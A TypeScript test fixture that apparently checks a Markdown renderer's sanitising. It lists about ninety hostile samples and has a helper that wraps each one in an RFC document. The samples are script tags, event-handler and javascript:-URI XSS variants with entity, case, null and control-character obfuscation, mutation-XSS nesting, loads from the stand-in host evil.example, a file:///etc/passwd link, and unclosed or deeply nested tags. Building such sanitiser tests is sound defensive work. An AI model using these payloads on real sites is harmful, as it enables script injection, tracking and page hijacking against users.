/** Markdown that tries to run something, to load something, to be taken for the page, or to swallow what follows it. */

/** Each says `Before.` before and `After.` behind it; each tries `window.hit()` or an address below `evil`. */
export const hostileSamples: Readonly<Record<string, string>> = {
  script: '<script>window.hit()</script>',
  'script, never closed': '<script>window.hit()',
  'script in a paragraph': 'a <script>window.hit()</script> b',
  'script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'script in pieces': '<scr<script>ipt>window.hit()</scr</script>ipt>',
  'script in svg': '<svg><script>window.hit()</script></svg>',
  'script in math': '<math><mtext><script>window.hit()</script></mtext></math>',
  'script through a style in math': '<math><mi><style><script>window.hit()</script></style></mi></math>',
  'script in a comment that ends early': '<!--> <script>window.hit()</script> -->',
  'script in a bogus comment': '<!- <script>window.hit()</script>',
  'script in a template': '<template><script>window.hit()</script></template>',
  'script in a noscript': '<noscript><p title="</noscript><script>window.hit()</script>"></noscript>',
  'script in a title': '<title><script>window.hit()</script></title>',
  'script in an xmp': '<xmp><script>window.hit()</script></xmp>',
  'script behind a textarea': '<textarea></textarea><script>window.hit()</script>',
  'script in an attribute': '<p title="<script>window.hit()</script>">x</p>',
  'image with onerror': '<img src=x onerror=window.hit()>',
  'image with a slash': '<img/src="x"/onerror="window.hit()">',
  'image in Markdown': '![x](x"onerror="window.hit())',
  'image from elsewhere': '![pixel](https://evil.example/pixel.png)',
  'picture from elsewhere':
    '<picture><source srcset="https://evil.example/x.png"><img src="https://evil.example/y.png"></picture>',
  'svg with onload': '<svg onload=window.hit()>',
  'svg with an animation':
    '<svg><a><animate attributeName=href values=javascript:window.hit() /><text y=20>x</text></a></svg>',
  'svg with a use': '<svg><use href="https://evil.example/x.svg#a"></use></svg>',
  'math with a link': '<math href="javascript:window.hit()">x</math>',
  'details with ontoggle': '<details open ontoggle=window.hit()>x</details>',
  'body with onload': '<body onload=window.hit()>',
  'focus by itself': '<input autofocus onfocus=window.hit()>',
  'video with onerror': '<video><source onerror=window.hit()></video>',
  'link with javascript': '[x](javascript:window.hit())',
  'link with javascript in capitals': '[x](JaVaScRiPt:window.hit())',
  'link with a tab': '<a href="java&#9;script:window.hit()">x</a>',
  'link with a line feed': '<a href="java&#10;script:window.hit()">x</a>',
  'link with a control character': '<a href="&#1;javascript:window.hit()">x</a>',
  'link with entities': '[x](&#106;&#97;vascript:window.hit())',
  'link with an entity for the colon': '<a href="javascript&colon;window.hit()">x</a>',
  'link with percent signs': '[x](%6aavascript:window.hit())',
  'link by reference': '[x][y]\n\n[y]: javascript:window.hit()',
  'link in angle brackets': '<javascript:window.hit()>',
  'link with vbscript': '[x](vbscript:msgbox)',
  'link with data': '[x](data:text/html,<script>window.hit()</script>)',
  'link with data in base64': '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0KCk8L3NjcmlwdD4=)',
  'link with file': '[x](file:///etc/passwd)',
  'link without a scheme': '[x](//evil.example/x)',
  'link with a backslash': '[x](\\\\evil.example/x)',
  'link with a target': '<a href="https://evil.example/x" target=_top ping="https://evil.example/ping">x</a>',
  'link in svg': '<svg><a xlink:href="javascript:window.hit()"><text>x</text></a></svg>',
  style: '<style>* { display: none; background: url(https://evil.example/x) }</style>',
  'style with import': '<style>@import "https://evil.example/x.css";</style>',
  'style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
  'class of the page': '<p class="verdict good">holds</p>',
  stylesheet: '<link rel=stylesheet href="https://evil.example/x.css">',
  preload: '<link rel=preload as=image href="https://evil.example/x.png">',
  iframe: '<iframe src="https://evil.example/"></iframe>',
  'iframe with srcdoc': '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  object: '<object data="https://evil.example/x.swf"></object>',
  embed: '<embed src="https://evil.example/x.swf">',
  form: '<form action="https://evil.example/"><input name=q><button>go</button></form>',
  'button of a form': '<button formaction="javascript:window.hit()" onclick=window.hit()>go</button>',
  'meta refresh': '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  'meta policy': '<meta http-equiv=Content-Security-Policy content="script-src \'unsafe-inline\'">',
  base: '<base href="https://evil.example/">',
  'table background':
    '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">x</td></tr></table>',
  'citation from elsewhere': '<blockquote cite="javascript:window.hit()">x</blockquote>',
  audio: '<audio src="https://evil.example/x.mp3" autoplay></audio>',
  'id of the page': '<p id="main">x</p><a name="legend">y</a><form id=document></form>',
  'id of a clause': '<article class="clause" id="clause.lamp.dark">x</article>',
  'id twice': '<p id="twice">x</p>\n\n<p id="twice">y</p>',
  'unclosed div': '<div><div><div hidden>',
  'unclosed list': '<ul><li><ul><li>',
  'unclosed table': '<table><tr><td>',
  'unclosed details': '<details><summary>x',
  'unclosed link': '<a href="https://evil.example/x">',
  'unclosed bold': '<b><i><s>',
  'unclosed attribute': '<p title="x',
  'unclosed comment in a paragraph': 'a <!-- b',
  'closing what is around': '</div></main></body></html></article></section>',
  plaintext: '<plaintext>',
  'plaintext in a paragraph': 'a <plaintext> b',
  textarea: '<textarea>',
  'select with options': '<select><option>x',
  'title, never closed': '<title>',
  'xmp, never closed': '<xmp>',
  'noembed, never closed': '<noembed>',
  'noframes, never closed': '<noframes>',
  'frameset instead of a body': '<frameset><frame src="https://evil.example/">',
  'svg, never closed': '<svg><foreignObject><p>',
  'math, never closed': '<math><annotation-xml encoding="text/html"><p>',
  'template, never closed': '<template><p>',
  'tab order': '<p tabindex=1 accesskey=a contenteditable>x</p>',
  'a null in a tag': '<img\u0000 src=x onerror=window.hit()>',
  'a null in a scheme': '[x](java\u0000script:window.hit())',
  'emphasis 500 deep': `${'*a '.repeat(500)}${'*'.repeat(500)}`,
  'elements 500 deep': '<span>'.repeat(500),
};

/** An RFC with a clause before and behind the sample. */
export function hostileRfc(sample: string): string {
  const block = (id: string): string =>
    `\`\`\`contract\nClause: lamp.${id}\nThen: it MUST be\nWhy: so\n\`\`\``;
  return `---
rfc: 1
title: Hostile
revision: 1
status: draft
options: [relay]
---

Before.

${block('first')}

${sample}

${block('last')}

After.
`;
}
